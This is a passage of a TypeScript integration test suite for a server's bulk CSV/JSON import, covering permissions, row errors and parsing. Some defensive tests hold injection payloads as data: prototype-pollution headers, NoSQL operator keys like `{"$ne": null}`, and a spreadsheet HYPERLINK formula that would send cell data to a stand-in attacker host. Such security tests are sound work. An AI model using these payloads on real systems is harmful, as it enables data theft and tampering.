// Bulk imports over real HTTP and Socket.io: a bulk upload with a CSV runs each row through the target service as the
// uploader; exact counts and per-row errors, the dry run, a Manager's permissions refusing some rows, progress events
// only to sockets that may read the upload, upserts by key, unreadable files refused.
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import path from 'node:path'
import { Readable } from 'node:stream'
import { importRows } from '../../src/services/imports.js'
import { DEMO_USERS, connect, login, loginAll, request, runCli, serverStore, startServer, upload as uploadFile, type TestServer } from '../helpers.js'

const PASSWORD = 'quillbase-demo'

describe('bulk imports', function () {
  this.timeout(90_000)
  let server: TestServer
  const tokens: Record<string, string> = {}
  const ids: Record<string, string> = {}

  const upload = async (token: string, text: string, name: string, type: string) => {
    const uploaded = await uploadFile(server.url, 'collection=bulk-uploads&field=file_url', text, name, type, token)
    assert.equal(uploaded.status, 201)
    return uploaded.body.url as string
  }
  /** Creates the bulk upload and waits for its run to end (the record's own Status). */
  const runImport = async (who: string, target: string, text: string, extra: Record<string, unknown> = {}, type = 'text/csv') => {
    const file_url = await upload(tokens[who], text, `${target}.csv`, type)
    const created = await request(server.url, 'POST', '/bulk-uploads', { token: tokens[who], body: { UploadedBy: ids[who], FileName: `${target}.csv`, Target: target, file_url, ...extra } })
    assert.equal(created.status, 201, JSON.stringify(created.body))
    assert.equal(created.body.Status, 'Queued', 'the request returns before the rows run')
    for (let i = 0; i < 600; i++) {
      const record = (await request(server.url, 'GET', `/bulk-uploads/${created.body._id}`, { token: tokens[who] })).body
      if (record.Status === 'Done' || record.Status === 'Failed') return record
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    throw new Error('the import did not end')
  }
  const count = async (path: string) => (await request(server.url, 'GET', `${path}${path.includes('?') ? '&' : '?'}$limit=0`, { token: tokens.admin })).body.total

  before(async () => {
    server = await startServer('appointments')
    await loginAll(server.url, DEMO_USERS, tokens, ids)
    ids.developerRole = (await server.app.service('users').get(ids.dev)).RoleId
  })
  after(async () => server?.close())

  const usersCsv = () =>
    [
      'Name,email,password,RoleId',
      `Grace Hopper,grace@example.com,long enough 1,${ids.developerRole}`,
      `Bad Email,not-an-email,long enough 2,${ids.developerRole}`,
      `Short Password,short@example.com,short,${ids.developerRole}`,
      `No Role,norole@example.com,long enough 3,0123456789abcdef01234567`,
      `Alan Turing,alan@example.com,long enough 4,${ids.developerRole}`
    ].join('\n')

  it('imports good rows and reports each bad one with its spreadsheet row and the service’s message', async () => {
    const users = await count('/users')
    const record = await runImport('admin', 'users', usersCsv())
    assert.equal(record.Status, 'Done')
    assert.deepEqual([record.TotalRecords, record.SuccessRecords, record.ErrorRecords], [5, 2, 3])
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [3, 4, 5])
    assert.match(record.ErrorDetails[0].Error, /email/)
    assert.match(record.ErrorDetails[1].Error, /password/)
    assert.match(record.ErrorDetails[2].Error, /RoleId|role/i)
    assert.equal(await count('/users'), users + 2)
    // Imported through the service: the password is hashed, so the new user logs in.
    assert.ok((await login(server.url, 'grace@example.com', 'long enough 1')).accessToken)
  })

  it('a dry run checks every row the same way and writes nothing (in transactions; without them, a standalone MongoDB, a 400 says it needs them)', async function () {
    // The emulator's transactions (MONGODB_TRANSACTIONS=on) keep an aborted one's writes: the dry run itself needs a replica set.
    if (serverStore === 'emulator' && server.app.store.transactions) return this.skip()
    if (!server.app.store.transactions) {
      const file_url = await upload(tokens.admin, usersCsv(), 'users.csv', 'text/csv')
      const refused = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: ids.admin, FileName: 'users.csv', Target: 'users', DryRun: true, file_url } })
      assert.equal(refused.status, 400)
      return
    }
    const users = await count('/users')
    const csv = usersCsv().replace(/grace@/, 'grace2@').replace(/alan@/, 'alan2@')
    const record = await runImport('admin', 'users', csv, { DryRun: true })
    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 5, 2, 3])
    assert.equal(await count('/users'), users, 'nothing written')
  })

  it("upserts by the declared key: a row with a known email updates that user", async () => {
    const csv = ['Name,email', 'Dev Patel-Smith,dev@example.com'].join('\n')
    const record = await runImport('admin', 'users', csv)
    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 0])
    assert.equal((await server.app.service('users').get(ids.dev)).Name, 'Dev Patel-Smith')
  })

  it('in one file, a key met twice creates its record once and then updates it; a refused row in the middle of a batch stops only itself', async () => {
    const row = (name: string, email: string) => `${name},${email},long enough 5,${ids.developerRole}`
    const csv = ['Name,email,password,RoleId', row('First Name', 'twice@example.com'), row('Other', 'other@example.com'), row('Bad', 'not an email'), row('Second Name', 'twice@example.com')].join('\n')
    const record = await runImport('admin', 'users', csv)
    assert.deepEqual([record.TotalRecords, record.SuccessRecords, record.ErrorRecords], [4, 3, 1], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [4])
    const twice = (await server.app.service('users').find({ paginate: false, query: { email: 'twice@example.com' } })) as any[]
    assert.deepEqual(twice.map((user) => user.Name), ['Second Name'])
    assert.equal(((await server.app.service('users').find({ paginate: false, query: { email: 'other@example.com' } })) as any[]).length, 1)
  })

  it("a Manager's import runs with her permissions: rows for another manager are refused; progress reaches only sockets that may read the upload", async () => {
    const maria = await connect(server.url, tokens.maria)
    const omar = await connect(server.url, tokens.omar)
    try {
      const rows = ['ManagerId,AppointedDate,Attendees']
      for (let i = 0; i < 250; i++) rows.push(`${ids.maria},2032-01-${String((i % 28) + 1).padStart(2, '0')}T09:00:00.000Z,"[{""DeveloperId"":""${ids.dev}""}]"`)
      rows.push(`${ids.omar},2032-02-01T09:00:00.000Z,[]`)
      rows.push(`${ids.maria},not a date,[]`)
      const before = await count(`/appointments?ManagerId=${ids.maria}`)
      const record = await runImport('maria', 'appointments', rows.join('\n'))
      assert.deepEqual([record.TotalRecords, record.SuccessRecords, record.ErrorRecords], [252, 250, 2])
      assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [252, 253])
      assert.match(record.ErrorDetails[0].Error, /may not create/i)
      assert.match(record.ErrorDetails[1].Error, /AppointedDate/)
      assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 250)
      const imported = (await server.app.service('appointments').find({ paginate: false, query: { ManagerId: ids.maria, AppointedDate: '2032-01-05T09:00:00.000Z' } })) as any[]
      assert.deepEqual(imported[0].Attendees, [{ DeveloperId: ids.dev }], 'a JSON cell became the array')

      const progress = maria.events.filter((e) => e.name === 'bulk-uploads patched' && e.data._id === record._id).map((e) => e.data.Status)
      assert.ok(progress.filter((status) => status === 'Running').length >= 3, `progress while running: ${progress}`)
      assert.equal(progress[progress.length - 1], 'Done')
      assert.equal(omar.events.filter((e) => e.name.startsWith('bulk-uploads')).length, 0, "Omar may not read Maria's uploads: no events")
    } finally {
      maria.close()
      omar.close()
    }
  })

  it("an Admin's upload for a Manager (Uploaded By her) runs with her permissions, as the report she reads says; whom it ran as is fixed", async () => {
    const csv = ['ManagerId,AppointedDate', `${ids.maria},2032-03-01T09:00:00.000Z`, `${ids.omar},2032-03-02T09:00:00.000Z`].join('\n')
    const before = await count(`/appointments?ManagerId=${ids.omar}`)
    const record = await runImport('admin', 'appointments', csv, { UploadedBy: ids.maria })
    assert.deepEqual([record.Status, record.SuccessRecords, record.ErrorRecords], ['Done', 1, 1], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [3])
    assert.match(record.ErrorDetails[0].Error, /may not create/i, "Omar's row is not Maria's to create (it ran with the Admin's rights before)")
    assert.equal(await count(`/appointments?ManagerId=${ids.omar}`), before)
    const [entry] = (await server.app.service('audit-log').find({ paginate: false, query: { collection: 'appointments', 'changes.field': 'AppointedDate', $sort: { at: -1 }, $limit: 1 } })) as any[]
    assert.equal(entry.actorId, ids.maria, 'the row was written as Maria')

    // What it ran with is fixed: its report would no longer say what happened (only UploadedBy was, the rest changed freely).
    for (const body of [{ UploadedBy: ids.omar }, { Target: 'users' }, { file_url: null }, { DryRun: true }]) {
      const changed = await request(server.url, 'PATCH', `/bulk-uploads/${record._id}`, { token: tokens.admin, body })
      assert.equal(changed.status, 400, JSON.stringify(changed.body))
      assert.match(changed.body.message, new RegExp(`${Object.keys(body)[0]} is what this import ran with`))
    }
    const replaced = await request(server.url, 'PUT', `/bulk-uploads/${record._id}`, { token: tokens.admin, body: { UploadedBy: ids.maria, FileName: 'x', Target: 'users' } })
    assert.equal(replaced.status, 400, 'a replace leaving the file out changes it too')
    assert.equal((await request(server.url, 'PATCH', `/bulk-uploads/${record._id}`, { token: tokens.admin, body: { FileName: 'renamed.csv', Target: 'appointments' } })).status, 200, 'the rest changes, the same values pass')
    const file_url = await upload(tokens.admin, csv, 'a.csv', 'text/csv')
    const nobody = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: '0123456789abcdef01234567', FileName: 'a.csv', Target: 'appointments', file_url } })
    assert.equal(nobody.status, 400)
    assert.match(nobody.body.message, /UploadedBy: no such user/)
  })

  it('gives the event loop a turn between batches, so the server answers other requests while an import runs', async () => {
    // Rows already in memory (as a chunk read ahead is) run on promises alone: nothing else could run until the end.
    const rows = ['ManagerId,AppointedDate,Attendees']
    for (let i = 0; i < 60; i++) rows.push(`${ids.maria},2033-03-${String((i % 28) + 1).padStart(2, '0')}T10:00:00.000Z,[]`)
    const target = server.app.blueprint.collections.find((collection) => collection.name === 'appointments')!
    const maria = await server.app.service('users').get(ids.maria)
    let turned = true
    const reports: boolean[] = []
    const counts = await importRows(server.app, target, 'csv', Readable.from([`${rows.join('\n')}\n`]), { provider: 'import', user: maria }, {
      every: 10,
      progress: () => {
        reports.push(turned)
        turned = false
        setImmediate(() => (turned = true))
      }
    })
    assert.equal(counts.succeeded, 60)
    assert.deepEqual(reports, [true, true, true, true, true, true, true], 'before each progress report, the event loop turned since the last one')
  })

  it('a header into a prototype (`__proto__.x`, `constructor.prototype.x`) is a refused row, and changes no object of the server', async () => {
    const csv = ['ManagerId,AppointedDate,__proto__.polluted', `${ids.maria},2034-01-01T09:00:00.000Z,yes`].join('\n')
    const other = ['ManagerId,AppointedDate,constructor.prototype.polluted', `${ids.maria},2034-01-02T09:00:00.000Z,yes`].join('\n')
    for (const text of [csv, other]) {
      const record = await runImport('maria', 'appointments', text)
      assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 1, 0, 1], JSON.stringify(record.ErrorDetails))
      assert.match(record.ErrorDetails[0].Error, /__proto__|constructor/)
    }
    // Before: every object of the process had `polluted`, and every query and write after it was refused.
    assert.equal(({} as any).polluted, undefined)
    assert.equal((await request(server.url, 'GET', '/appointments', { token: tokens.maria })).status, 200)
  })

  it('every row is counted and the import ends Done, however long or many its errors: each is cut at 1000 characters, the report kept within the record size', async () => {
    // 25 unknown columns of 40 characters: one row's message is ~1,400 characters (before: the report could not be stored, Failed).
    const unknown = Array.from({ length: 25 }, (_, i) => `an_unknown_column_with_a_long_name_${String(i).padStart(4, '0')}`)
    const good = (i: number) => `${ids.maria},2034-02-01T${String(9 + (i % 10)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}:00.000Z${','.repeat(unknown.length)}`
    const bad = `${ids.maria},2034-03-01T09:00:00.000Z,${unknown.map(() => 'x').join(',')}`
    const one = await runImport('maria', 'appointments', [`ManagerId,AppointedDate,${unknown.join(',')}`, good(1), bad, good(2)].join('\n'))
    assert.deepEqual([one.Status, one.TotalRecords, one.SuccessRecords, one.ErrorRecords], ['Done', 3, 2, 1], JSON.stringify(one.ErrorDetails).slice(0, 300))
    assert.equal(one.ErrorDetails[0].Row, 3)
    assert.equal(one.ErrorDetails[0].Error.length, 1000)
    // 400 such rows: 400 errors of 1,000 characters would not fit the record (bulk-uploads hold at most 512 kB).
    const many = await runImport('maria', 'appointments', [`ManagerId,AppointedDate,${unknown.join(',')}`, ...Array.from({ length: 400 }, () => bad)].join('\n'))
    assert.deepEqual([many.Status, many.TotalRecords, many.SuccessRecords, many.ErrorRecords], ['Done', 400, 0, 400])
    assert.ok(many.ErrorDetails.length > 100 && many.ErrorDetails.length < 400, `${many.ErrorDetails.length} errors kept`)
    assert.deepEqual(many.ErrorDetails.slice(0, 3).map((e: any) => e.Row), [2, 3, 4])
  })

  it('a JSON or NDJSON row that is not one record (an array, a number, null) is a refused row, never a batch of creates', async () => {
    const row = (hour: number) => ({ ManagerId: ids.maria, AppointedDate: `2034-04-01T${String(hour).padStart(2, '0')}:00:00.000Z` })
    const before = await count(`/appointments?ManagerId=${ids.maria}`)
    // A blank line (line 2) is no record but keeps its number: `Row` is the line an editor shows.
    const lines = [JSON.stringify(row(9)), '', JSON.stringify([row(10), row(11), row(12)]), '[]', '7', 'null', JSON.stringify(row(13))].join('\n')
    const record = await runImport('maria', 'appointments', lines, {}, 'application/x-ndjson')
    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 6, 2, 4], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [3, 4, 5, 6])
    assert.match(record.ErrorDetails[0].Error, /one record/)
    assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 2)
  })

  it('CSV rows are numbered as a spreadsheet shows them (blank lines too); a record that cannot be read is its own error, the rest are imported', async () => {
    const at = (day: number) => `${ids.maria},2034-05-0${day}T09:00:00.000Z`
    const before = await count(`/appointments?ManagerId=${ids.maria}`)
    // Rows: 1 header, 2 good, 3–4 blank, 5 another manager's (refused), 6 good, 7 an unclosed quote to the end.
    const csv = ['ManagerId,AppointedDate', at(1), '', '', `${ids.omar},2034-05-02T09:00:00.000Z`, at(3), `${ids.maria},"2034-05-04`].join('\n')
    const record = await runImport('maria', 'appointments', csv)
    assert.deepEqual([record.Status, record.SuccessRecords, record.ErrorRecords], ['Done', 2, 2], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [5, 7])
    assert.match(record.ErrorDetails[1].Error, /cannot be read as CSV: a quote opened in this row is never closed: every line after it was read into that cell/)
    assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 2)
  })

  it('a quote closing a cell with more after it is that row\'s error, and the rows after it are read (they were read into the cell)', async () => {
    const at = (day: number) => `${ids.maria},2034-07-0${day}T09:00:00.000Z`
    const before = await count(`/appointments?ManagerId=${ids.maria}`)
    // Rows: 1 header, 2 good, 3 `"…"x`, 4 good, 5 two bad quotes (one row, one error), 6 a quote inside a cell, 7 good.
    const csv = ['ManagerId,AppointedDate', at(1), `${ids.maria},"2034-07-02T09:00:00.000Z"x`, at(4), `"${ids.maria}"a,"2034"b`, `${ids.maria},2034-07-06"x`, at(7)].join('\n')
    const record = await runImport('maria', 'appointments', csv)
    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 6, 3, 3], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [3, 5, 6])
    assert.match(record.ErrorDetails[0].Error, /cannot be read as CSV: Invalid Closing Quote: got "x"/)
    assert.equal(await count(`/appointments?ManagerId=${ids.maria}&AppointedDate[$gte]=2034-07-01T00:00:00.000Z&AppointedDate[$lt]=2034-08-01T00:00:00.000Z`), 3)
    assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 3)
  })

  it('a CSV row longer than its header is refused when the extra cells hold values (they belong to no field); trailing empty cells and short rows are read', async () => {
    const at = (day: number) => `${ids.maria},2034-06-0${day}T09:00:00.000Z`
    const before = await count(`/appointments?ManagerId=${ids.maria}`)
    // Rows: 1 header, 2 trailing empty cells, 3 an extra value, 4 good, 5 short (no Attendees cell), 6 blank with commas.
    const csv = ['ManagerId,AppointedDate,Attendees', `${at(1)},,,`, `${at(2)},[],lost value`, `${at(3)},[]`, at(4), ',,,,'].join('\n')
    const record = await runImport('maria', 'appointments', csv)
    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 4, 3, 1], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [3])
    assert.match(record.ErrorDetails[0].Error, /this row has 4 cells and the header 3: the cells past the header \("lost value"\) belong to no field/)
    assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 3)
    assert.equal((await count(`/appointments?ManagerId=${ids.maria}&AppointedDate=2034-06-02T09:00:00.000Z`)), 0, 'the refused row wrote nothing')
  })

  it('a value under a column without a name is a refused row, whichever unnamed column holds it (two of them were one column, a cell lost)', async () => {
    const at = (day: number) => `2034-09-0${day}T09:00:00.000Z,${ids.maria}`
    const before = await count(`/appointments?ManagerId=${ids.maria}`)
    const csv = ['AppointedDate,ManagerId,,', `${at(1)},first,`, `${at(2)},,second`, `${at(3)},,`].join('\n')
    const record = await runImport('maria', 'appointments', csv)
    assert.deepEqual([record.TotalRecords, record.SuccessRecords, record.ErrorRecords], [3, 1, 2], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [2, 3])
    assert.match(record.ErrorDetails[0].Error, /column 3 has no name in the header: its cell \("first"\) belongs to no field/)
    assert.match(record.ErrorDetails[1].Error, /column 4 has no name in the header: its cell \("second"\)/)
    assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 1)
  })

  it('a key is a value, never a query: a JSON key {"$ne": null} is a refused row and changes nobody (it patched the first user)', async () => {
    const admin = await server.app.service('users').get(ids.admin)
    const rows = [{ email: { $ne: null }, Name: 'Injected Name' }, { email: { $regex: '^sam' }, Name: 'Regex Name' }, { email: ['a@example.com'], Name: 'Array' }]
    const record = await runImport('admin', 'users', JSON.stringify(rows), {}, 'application/json')
    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 3, 0, 3], JSON.stringify(record.ErrorDetails))
    assert.ok(record.ErrorDetails.every((e: any) => /email must be a value/.test(e.Error)), JSON.stringify(record.ErrorDetails))
    assert.equal((await server.app.service('users').get(ids.admin)).Name, admin.Name)
  })

  it('a JSON file decodes characters whose bytes fall across two chunks of the stored file', async () => {
    const sam = (await server.app.service('users').find({ paginate: false, query: { email: 'sam@example.com' } }))[0] as any
    const name = 'é'.repeat(40)
    // The refused first row pads the file so that the 65,536th byte (the end of the first 64 KiB chunk read from disk)
    // is the first byte of an `é` of the second row's Name. (GridFS reads 255 kB chunks: on MongoDB no é is split, and
    // this test shows the embedded store's case only.)
    const head = (pad: string) => `[${JSON.stringify({ email: 'pad@example.com', pad })},{"email":"sam@example.com","Name":"`
    const pad = 'x'.repeat(65_536 - 41 - Buffer.byteLength(head('')))
    const text = `${head(pad)}${name}"}]`
    assert.equal(Buffer.byteLength(head(pad)), 65_536 - 41)
    try {
      const record = await runImport('admin', 'users', text, {}, 'application/json')
      assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 1], JSON.stringify(record.ErrorDetails))
      assert.equal((await server.app.service('users').get(sam._id)).Name, name)
    } finally {
      await server.app.service('users').patch(sam._id, { Name: sam.Name })
    }
  })

  it("every refused row's message is cut at 1000 characters, the parser's and ours too (a long one failed the whole report, counts 0)", async () => {
    const at = (day: number) => `${ids.maria},2034-07-0${day}T09:00:00.000Z`
    const csv = ['ManagerId,AppointedDate', at(1), `${at(2)},${'x'.repeat(1500)}`, at(3)].join('\n')
    const record = await runImport('maria', 'appointments', csv)
    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 3, 2, 1], JSON.stringify(record.ErrorDetails).slice(0, 300))
    assert.equal(record.ErrorDetails[0].Row, 3)
    assert.ok(record.ErrorDetails[0].Error.length <= 1000)
  })

  it('the blocked-manager rule holds for each row of a batch: a row with a developer who blocked the manager is refused (409), the others imported', async () => {
    const sam = (await server.app.service('users').find({ paginate: false, query: { email: 'sam@example.com' } }))[0] as any
    assert.ok((sam.BlockedUser ?? []).includes(ids.omar), 'the demo: Sam has blocked Omar')
    const attendees = (developer: string) => `"[{""DeveloperId"":""${developer}""}]"`
    const csv = ['ManagerId,AppointedDate,Attendees', `${ids.omar},2034-08-01T09:00:00.000Z,${attendees(sam._id)}`, `${ids.omar},2034-08-02T09:00:00.000Z,${attendees(ids.dev)}`, `${ids.omar},2034-08-03T09:00:00.000Z,`].join('\n')
    const record = await runImport('omar', 'appointments', csv)
    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [2, 1], JSON.stringify(record.ErrorDetails))
    assert.equal(record.ErrorDetails[0].Row, 2)
    assert.match(record.ErrorDetails[0].Error, /has blocked this manager/)
    const withSam = (await server.app.service('appointments').find({ paginate: false, query: { ManagerId: ids.omar, 'Attendees.DeveloperId': sam._id } })) as any[]
    assert.equal(withSam.length, 0)
  })

  it('a batch of new users is hashed one record at a time, the event loop turning between them (a hundred at once held the server ~10 s)', async () => {
    let turns = 0
    let probing = true
    const probe = () => {
      turns++
      if (probing) setImmediate(probe)
    }
    setImmediate(probe)
    const made = (await server.app.service('users').create(
      Array.from({ length: 6 }, (_, i) => ({ Name: `Hashed ${i}`, email: `hashed${i}@example.com`, password: 'long enough 1', RoleId: ids.developerRole }))
    )) as any[]
    probing = false
    try {
      // bcryptjs yields with setImmediate between chunks: one record at a time, the probe runs between every hash.
      assert.ok(turns >= 6, `the event loop turned ${turns} times during 6 hashes`)
    } finally {
      for (const user of made) await server.app.service('users').remove(user._id)
    }
  })

  it("a secret cell is taken as written: an apostrophe before = in a password stays (no export writes one to undo)", async () => {
    const csv = ['Name,email,password,RoleId', `Quote Pass,quotepass@example.com,'=pw123456 long,${ids.developerRole}`].join('\n')
    const record = await runImport('admin', 'users', csv)
    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 0], JSON.stringify(record.ErrorDetails))
    assert.ok((await login(server.url, 'quotepass@example.com', "'=pw123456 long")).accessToken)
  })

  it('a formula-like Name is exported after an apostrophe (a spreadsheet shows it as text) and imported back as it was', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    await server.app.service('users').patch(ids.omar, { Name: name })
    const exported = await fetch(`${server.url}/users?email=omar@example.com&$select[]=Name&$select[]=email`, { headers: { accept: 'text/csv', authorization: `Bearer ${tokens.admin}` } })
    const csv = await exported.text()
    assert.equal(csv.split('\n')[1], `${ids.omar},"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",omar@example.com`, 'the cell starts with an apostrophe')
    await server.app.service('users').patch(ids.omar, { Name: 'Omar' })
    // The export as it is: its `_id` names the record.
    const record = await runImport('admin', 'users', csv)
    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 0], JSON.stringify(record.ErrorDetails))
    assert.equal((await server.app.service('users').get(ids.omar)).Name, name, 'the apostrophe the export added is taken off')
    await server.app.service('users').patch(ids.omar, { Name: 'Omar' })
  })

  it("an export imports back as it is: a row's _id names the record it patches (only what changed), the stamps are the engine's; an _id no record has, or one not the caller's, is refused", async () => {
    const appointments = server.app.service('appointments')
    const mine = await Promise.all(['2035-01-01', '2035-01-02'].map((day) => appointments.create({ ManagerId: ids.maria, AppointedDate: `${day}T09:00:00.000Z`, Attendees: [{ DeveloperId: ids.dev }] })))
    await (appointments as any).respond({ id: mine[0]._id, Status: 'Accepted' }, { user: await server.app.service('users').get(ids.dev) })
    const omars = await appointments.create({ ManagerId: ids.omar, AppointedDate: '2035-01-03T09:00:00.000Z' })
    const exported = await fetch(`${server.url}/appointments?AppointedDate[$gte]=2035-01-01T00:00:00.000Z&AppointedDate[$lt]=2035-02-01T00:00:00.000Z&$sort[AppointedDate]=1`, { headers: { accept: 'text/csv', authorization: `Bearer ${tokens.maria}` } })
    const lines = (await exported.text()).trim().split('\n')
    assert.match(lines[0], /^_id,.*CreatedAt,UpdatedAt$/, lines[0])
    assert.equal(lines.length, 3, 'her two appointments')
    // She moves the second one, adds a row for a new one, and (from elsewhere) rows naming Omar's and no record.
    const at = lines[0].split(',').indexOf('AppointedDate')
    const moved = lines[2].replace('2035-01-02T09:00:00.000Z', '2035-01-09T09:00:00.000Z')
    const cells = (id: string) => [id, ...lines[1].split(',').slice(1)].join(',')
    const fresh = lines[0].split(',').map((name, index) => (name === 'ManagerId' ? ids.maria : index === at ? '2035-01-20T09:00:00.000Z' : '')).join(',')
    const csv = [lines[0], lines[1], moved, cells(String(omars._id)), cells('0123456789abcdef01234567'), fresh].join('\n')
    const before = await count('/appointments')
    const answered = await appointments.get(mine[0]._id)
    const record = await runImport('maria', 'appointments', csv)
    assert.deepEqual([record.TotalRecords, record.SuccessRecords, record.ErrorRecords], [5, 3, 2], JSON.stringify(record.ErrorDetails))
    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [4, 5])
    assert.match(record.ErrorDetails[0].Error, /may not/i, "Omar's appointment is not hers to change")
    assert.match(record.ErrorDetails[1].Error, /No record of appointments has the _id 0123456789abcdef01234567: a new record is imported without an _id/)
    assert.equal(await count('/appointments'), before + 1, 'one new appointment; the exported ones were not imported again')
    const [first, second] = await Promise.all(mine.map((a) => appointments.get(a._id)))
    assert.equal(second.AppointedDate, '2035-01-09T09:00:00.000Z')
    assert.equal(first.Attendees[0].Status, 'Accepted', "the developer's answer, exported and sent back as it was, stays")
    assert.equal(first.UpdatedAt, answered.UpdatedAt, 'a row that changes nothing writes nothing')
    assert.equal((await appointments.get(omars._id)).AppointedDate, '2035-01-03T09:00:00.000Z')
  })

  it('a key finds its record as the service spells it (emails lower-cased); the unchanged key is not patched, so a Manager updates her own profile', async () => {
    const upper = await runImport('admin', 'users', ['Name,email', 'Maria By Upper Case, MARIA@Example.com '].join('\n'))
    assert.deepEqual([upper.SuccessRecords, upper.ErrorRecords], [1, 0], JSON.stringify(upper.ErrorDetails))
    assert.equal((await server.app.service('users').get(ids.maria)).Name, 'Maria By Upper Case')
    // Maria may change her own Name, not her email: before, the key sent back in the patch refused the row.
    const own = await runImport('maria', 'users', ['Name,email', 'Maria Her Own,maria@example.com'].join('\n'))
    assert.deepEqual([own.SuccessRecords, own.ErrorRecords], [1, 0], JSON.stringify(own.ErrorDetails))
    assert.equal((await server.app.service('users').get(ids.maria)).Name, 'Maria Her Own')
    // Found by its `_id`, the key is a field: an edited email is changed (it was left as it was, the row a success).
    const byId = await runImport('admin', 'users', ['_id,email', `${ids.maria},maria.new@example.com`, `${ids.omar},not an email`].join('\n'))
    assert.deepEqual([byId.SuccessRecords, byId.ErrorRecords], [1, 1], JSON.stringify(byId.ErrorDetails))
    assert.equal((await server.app.service('users').get(ids.maria)).email, 'maria.new@example.com')
    assert.equal((await server.app.service('users').get(ids.omar)).email, 'omar@example.com', 'the service checks the changed key as any field')
    if (serverStore === 'embedded') {
      // Another user's email: the unique index refuses it (the MongoDB emulator does not enforce unique indexes).
      const taken = await runImport('admin', 'users', ['_id,email', `${ids.omar},lin@example.com`].join('\n'))
      assert.deepEqual([taken.SuccessRecords, taken.ErrorRecords], [0, 1], JSON.stringify(taken.ErrorDetails))
    }
    const ids_ = await runImport('admin', 'users', [{ _id: '', Name: 'x' }, { _id: 7, Name: 'x' }, { _id: { $ne: null }, Name: 'x' }].map((row) => JSON.stringify(row)).join('\n'), {}, 'application/x-ndjson')
    assert.deepEqual(ids_.ErrorDetails.map((e: any) => e.Error), ['_id must be a record\'s id, not ""', '_id must be a record\'s id, not 7', '_id must be a record\'s id, not {"$ne":null}'])
    await server.app.service('users').patch(ids.maria, { email: 'maria@example.com' })
  })

  it('an array of bulk uploads or reports is a 400: each one runs as it is created, a batch would be stored without running', async () => {
    const file_url = await upload(tokens.maria, `ManagerId,AppointedDate\n${ids.maria},2034-06-01T09:00:00.000Z\n`, 'a.csv', 'text/csv')
    const uploads = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.maria, body: [{ UploadedBy: ids.maria, FileName: 'a.csv', Target: 'appointments', file_url }] })
    assert.equal(uploads.status, 400)
    assert.match(uploads.body.message, /one bulk-uploads record at a time/)
    const range = { StartDate: '2030-01-01T00:00:00.000Z', Enddate: '2036-01-01T00:00:00.000Z' }
    const reports = await request(server.url, 'POST', '/reports', { token: tokens.maria, body: [{ CreatedBy: ids.maria, DateRange: range }] })
    assert.equal(reports.status, 400)
    assert.match(reports.body.message, /one reports record at a time/)
  })

  it('a run that never began (its uploader gone before it) ends the record Failed with the reason, not Queued forever', async () => {
    const file_url = await upload(tokens.maria, `ManagerId,AppointedDate\n${ids.maria},2034-07-01T09:00:00.000Z\n`, 'a.csv', 'text/csv')
    // The record as the hook stores it, and its job as an uploader who was then removed (here: one who never was).
    const record = await (server.app.service('bulk-uploads') as any)._create({ UploadedBy: ids.maria, FileName: 'a.csv', Target: 'appointments', file_url, Status: 'Queued', TotalRecords: 0, SuccessRecords: 0, ErrorRecords: 0, ErrorDetails: [] })
    await server.app.jobs.enqueue('import', { operation: 'bulk-uploads', id: String(record._id), target: 'appointments', format: 'csv' }, { userId: '0123456789abcdef01234567' })
    let stored: any = record
    for (let i = 0; i < 400 && stored.Status === 'Queued'; i++) {
      await new Promise((resolve) => setTimeout(resolve, 50))
      stored = await (server.app.service('bulk-uploads') as any)._get(record._id)
    }
    assert.equal(stored.Status, 'Failed')
    assert.match(stored.ErrorDetails.at(-1).Error, /^The import stopped: .*no longer exists/)
  })

  it('refuses an unreadable file (400 with the reason), a file without a target (422) and report fields typed by the caller (400)', async () => {
    const broken = await upload(tokens.admin, '[{"Name": "x",', 'users.json', 'application/json')
    const res = await request(server.url, 'POST', '/bulk-uploads', { token: tokens.admin, body: { UploadedBy: ids.admin, FileName: 'users.json', Target: 'users', file_url: broken } })
    assert.equal(res.status, 400)
